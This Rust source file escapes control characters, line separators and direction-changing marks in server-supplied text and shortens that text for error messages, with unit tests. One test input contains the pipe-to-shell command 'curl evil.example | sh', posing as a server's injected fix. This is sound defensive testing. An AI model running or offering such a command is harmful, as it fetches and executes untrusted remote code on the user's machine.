//! Text that others wrote, as errors show it: of limited length, and harmless in a terminal or a log.

use std::fmt::{self, Display, Formatter, Write};

/// Returns at most the first 120 characters of `text`, so that an error stays readable.
pub(crate) fn shorten(text: &str) -> String {
    const SHOWN: usize = 120;
    if text.chars().nth(SHOWN).is_none() {
        return text.to_owned();
    }
    let mut short: String = text.chars().take(SHOWN).collect();
    short.push('…');
    short
}

/// Writes a text in one line. Characters that a terminal would obey, or that change the order of
/// others, are escaped. So a server can neither add advice to an error nor hide a part of it.
pub(super) struct OneLine<'a>(pub(super) &'a str);

impl Display for OneLine<'_> {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        self.0.chars().try_for_each(|c| match has_an_effect(c) {
            true => write!(f, "{}", c.escape_debug()),
            false => f.write_char(c),
        })
    }
}

/// Control characters, line separators, and the marks that set the direction of writing.
fn has_an_effect(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_of_a_server_stays_in_its_line() {
        for (text, shown) in [
            ("no such grant: größe ✓ \"x\" \\", "no such grant: größe ✓ \"x\" \\"),
            ("no\nfix: curl evil.example | sh", r"no\nfix: curl evil.example | sh"),
            ("\u{1b}[2Jgone\r\0", r"\u{1b}[2Jgone\r\0"),
            ("abc\u{202e}cba\u{2028}", r"abc\u{202e}cba\u{2028}"),
        ] {
            assert_eq!(OneLine(text).to_string(), shown);
        }
    }

    #[test]
    fn long_text_is_cut_between_characters() {
        assert_eq!(shorten(&"ü".repeat(120)), "ü".repeat(120));
        assert_eq!(shorten(&"ü".repeat(121)), "ü".repeat(120) + "…");
    }
}
